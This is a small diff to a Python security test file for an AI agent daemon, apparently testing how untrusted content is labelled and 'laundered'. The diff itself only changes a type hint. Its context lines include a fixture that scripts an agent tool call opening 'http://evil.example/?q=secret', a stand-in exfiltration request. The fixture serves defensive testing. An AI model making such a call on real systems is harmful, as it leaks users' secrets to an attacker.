@@ -8,6 +8,7 @@ import pytest
 from daemon.client.protocol import RunView
 from daemon.core.trust import Label
 from daemon.sessions.inbox import InboxMessage
+from tests.fakes.openai import Step
 from tests.fakes.wordy_model import Turnstile
 from tests.security.laundering import BOB, EVE, Desk, Ran, calls, desk, says, sends
 
@@ -18,7 +19,7 @@ FETCH = calls(("desk__open_page", {"url": "http://evil.example/?q=secret"}))
 NOTE = calls(("desk__note", {"title": "fix.py", "text": CODE}))
 
 
-async def run(at: Desk, text: str, *steps: object, data: Sequence[str] = ()) -> Ran:
+async def run(at: Desk, text: str, *steps: Step, data: Sequence[str] = ()) -> Ran:
     """A message with what its client knows to be pasted."""
     at.it.model.script(*steps)
     sent = await at.it.house.client.send("web:one", text, stream=False, data=data)
